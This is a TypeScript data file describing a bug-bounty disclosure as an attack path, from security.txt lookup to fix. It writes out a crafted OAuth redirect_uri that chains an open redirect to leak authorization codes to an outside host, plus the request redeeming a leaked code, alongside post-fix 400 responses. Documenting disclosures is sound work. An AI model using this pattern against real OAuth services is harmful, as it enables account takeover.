import { findingPrefix } from '#contract/finding-numbers.ts';
import type { AttackPath } from './attack-path.ts';

export const bountyPath: AttackPath = {
  id: `${findingPrefix}-2026-071`,
  title: 'A stranger’s report, from inbox to fix',
  vector: 'CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:A/VC:H/VI:L/VA:N/SC:N/SI:N/SA:N',
  reported: '2026-05-12',
  retested: '2026-05-20',
  answers: ['302', '400'],
  cut: 3,
  sides: [
    { label: 'duplicate', from: 2, at: 3, lane: 2 },
    { label: 'out of scope', from: 1, at: 1.8, lane: 2 },
  ],
  hops: [
    {
      label: 'security.txt',
      glyph: 'document',
      lane: 0,
      name: 'Find out who to write to',
      lines: [
        'GET /.well-known/security.txt HTTP/2',
        '',
        'HTTP/2 200',
        'Contact: https://kestrel.example/security/report',
        'Expires: 2027-06-30T23:59:59Z',
      ],
    },
    {
      label: 'report 118',
      glyph: 'mail',
      lane: 1,
      name: 'Send a report',
      lines: [
        'subject: redirect_uri accepts any path on the wiki',
        'received 2026-05-12 08:14 UTC',
        'first reply 2026-05-12 09:02 UTC, by a person',
      ],
    },
    {
      label: 'redirect_uri',
      glyph: 'key',
      lane: 0,
      name: 'Reproduce it in triage',
      lines: [
        'GET /oauth/authorize?client_id=wiki&response_type=code',
        '  &redirect_uri=https://wiki.kestrel.example{-/x?to=//c.example-}',
        '',
        'HTTP/2 302 {#1}',
        'location: https://wiki.[...]/x?to=//c.example&{!code=4f[...]!}',
      ],
      notes: ['valid, new, in scope: $3,200'],
      after: [
        'GET /oauth/authorize?client_id=wiki&response_type=code',
        '  &redirect_uri=https://wiki.kestrel.example{-/x?to=//c.example-}',
        '',
        '{+HTTP/2 400+}',
        '{"error": "invalid_request"}',
      ],
    },
    {
      label: 'a stranger’s account',
      glyph: 'person',
      lane: 1,
      name: 'Redeem the leaked code',
      lines: [
        'POST /oauth/token HTTP/2',
        'grant_type=authorization_code&code={-4f[redacted]-}',
        '',
        'HTTP/2 200',
        '{"access_token": {!"[second test account]"!}}',
      ],
      after: [
        'POST /oauth/token HTTP/2',
        'grant_type=authorization_code&code={-4f[redacted]-}',
        '',
        '{+HTTP/2 400+}',
        '{"error": "invalid_grant"}',
      ],
    },
  ],
};
